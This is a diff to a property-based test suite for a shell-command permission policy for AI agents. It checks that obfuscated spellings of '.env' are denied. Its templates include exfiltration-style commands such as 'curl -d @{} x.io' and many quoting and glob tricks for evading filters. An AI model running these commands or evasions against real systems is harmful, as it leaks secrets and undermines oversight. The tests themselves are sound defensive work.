@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import string
+from pathlib import Path
 
 from hypothesis import given, settings
 from hypothesis import strategies as st
@@ -19,14 +20,15 @@ def verdict(command: str) -> str:
     return POLICY.judge(ToolCall("1", "shell", {"command": command}), stand_in("shell")).verdict
 
 
-_LETTER = st.sampled_from(
-    ["{0}", "'{0}'", '"{0}"', "\\{0}", "''{0}", '{0}""', "[{0}]", "?", "[{0}x]", "{{{0},{0}}}", "$'{0}'"]
-)
+_WRITTEN = ["{0}", "'{0}'", '"{0}"', "\\{0}", "''{0}", '{0}""', "{{{0},{0}}}", "$'{0}'"]
+_GLOBBED = ["[{0}]", "?", "[{0}x]"]
+_LETTER = st.sampled_from(_WRITTEN + _GLOBBED)
 _DIRECTORY = st.sampled_from(["", "./", "sub/../", ".//", "$PWD/", "${PWD}/", "/proc/self/cwd/", "'./'", "~/../work/"])
 _AROUND = st.sampled_from([
     "cat {}", "cat < {}", "head -n1 -- {}", "cp {} /tmp/x", "echo x > {}", "true; cat {}", "x=$(cat {})", "ls && nl {}",
-    "sudo cat {}", "bash -c 'true'; cat {}", "cat a {} b", "tar cf x.tar --files {}", "dd if={}", "curl -d @{} x.io",
+    "sudo cat {}", "bash -c 'true'; cat {}", "cat a {} b", "tar cf x.tar --files {}",
 ])  # fmt: skip
+_GLUED = st.sampled_from(["dd if={}", "curl -d @{} x.io"])
 
 
 @settings(max_examples=150, deadline=None)
@@ -37,7 +39,23 @@ def test_no_spelling_gets_through(letters: list[str], dot: str, directory: str, 
 
 
 @settings(max_examples=100, deadline=None)
-@given(st.text(alphabet=string.ascii_lowercase + "._-/", min_size=1, max_size=12), _AROUND)
+@given(st.lists(st.sampled_from(_WRITTEN), min_size=3, max_size=3), _DIRECTORY, _GLUED)
+def test_no_spelling_gets_through_behind_other_text(letters: list[str], directory: str, around: str) -> None:
+    word = "." + "".join(letter.format(char) for letter, char in zip(letters, "env", strict=True))
+    assert verdict(around.format(directory + word)) == "deny", around.format(directory + word)
+
+
+def test_a_shell_globs_the_whole_word(tmp_path: Path) -> None:
+    """`if=.en[v]` stands for .env only where a file is named `if=.env`; elsewhere it stays as it is written."""
+    policy = Rules(cwd=str(tmp_path), home=str(tmp_path / "h"), tilde=str(tmp_path))
+    call = ToolCall("1", "shell", {"command": "dd if=.en[v]"})
+    assert policy.judge(call, stand_in("shell")).verdict == "ask"
+    (tmp_path / "if=.env").touch()
+    assert policy.judge(call, stand_in("shell")).verdict == "deny"
+
+
+@settings(max_examples=100, deadline=None)
+@given(st.text(alphabet=string.ascii_lowercase + "._-/", min_size=1, max_size=12), _AROUND | _GLUED)
 def test_other_names_are_left_alone(name: str, around: str) -> None:
     if ".env" not in name and "ralph" not in name:
         assert verdict(around.format(f"./{name}")) != "deny" or "/.." in f"/{name}"
